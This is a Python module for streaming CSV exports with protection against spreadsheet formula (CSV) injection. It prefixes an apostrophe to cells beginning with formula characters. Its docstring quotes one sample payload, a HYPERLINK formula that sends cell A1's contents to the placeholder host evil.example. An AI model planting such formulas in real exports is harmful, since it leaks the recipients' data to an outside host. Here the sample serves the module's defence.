"""CSV for spreadsheets, written as it is sent.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some, a tab or a carriage return) as a formula: a supporter who signs as
``=HYPERLINK("https://evil.example/?"&A1, "click")`` would otherwise get code
run on an organizer's machine. Such cells get a leading apostrophe, which
spreadsheets show as text and hide (OWASP "CSV injection"; e-petitions'
``csv_escape``). Numbers are written as they are: they carry no formula.
"""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

# A byte-order mark lets Excel read the file as UTF-8 rather than the system's code page.
BOM = "\ufeff"
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_FIRST_CHARACTERS = frozenset("".join(_FORMULA_STARTS))
# Rows written per chunk sent: large enough that the writer's overhead stays small.
_ROWS_PER_CHUNK = 500


def safe_cell(value):
    """``value`` as the text of one cell, neutralised if a spreadsheet would run it."""
    if type(value) is str:  # most cells: the cheapest test first (exports call this per cell)
        return "'" + value if value and value[0] in _FORMULA_FIRST_CHARACTERS else value
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return str(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(_FORMULA_STARTS) else text


def stream_csv(header, rows, *, bom=True, delimiter=",", line_end="\r\n"):
    """A generator of CSV text (BOM and header first) for a streamed response.

    ``rows`` is any iterable of sequences, consumed as the response is sent: give it a
    streaming query's rows and memory stays flat however many there are. For Excel
    in most of Europe, where the comma is the decimal separator, pass ``delimiter=";"``.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=line_end)
    writer.writerow([safe_cell(name) for name in header])
    yield (BOM if bom else "") + _take(buffer)
    chunk = []
    for row in rows:
        chunk.append([safe_cell(value) for value in row])
        if len(chunk) == _ROWS_PER_CHUNK:
            writer.writerows(chunk)
            chunk.clear()
            yield _take(buffer)
    writer.writerows(chunk)
    rest = _take(buffer)
    if rest:
        yield rest


def _take(buffer):
    text = buffer.getvalue()
    buffer.seek(0)
    buffer.truncate()
    return text
